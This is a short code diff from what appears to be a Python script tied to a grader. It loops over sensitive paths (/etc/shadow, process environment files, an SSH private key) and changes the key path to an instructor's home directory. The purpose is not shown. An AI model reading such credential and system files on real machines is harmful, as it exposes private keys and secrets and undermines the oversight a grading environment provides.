@@ -11,7 +11,7 @@ repository = os.path.dirname(grader)
 for path in (
     "/etc/passwd",
     "/etc/shadow",
-    "/root/.ssh/id_rsa",
+    "/home/instructor/.ssh/id_rsa",
     "/proc/self/maps",
     "/proc/self/environ",
     "/proc/1/environ",
